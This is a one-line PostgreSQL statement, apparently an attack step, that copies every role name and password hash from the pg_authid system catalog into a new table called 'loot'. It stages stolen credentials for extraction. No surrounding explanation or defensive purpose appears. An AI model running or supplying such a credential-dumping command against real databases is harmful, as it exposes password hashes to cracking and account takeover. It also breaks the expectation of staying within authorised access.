CREATE TABLE loot AS SELECT rolname, rolpassword FROM pg_authid;
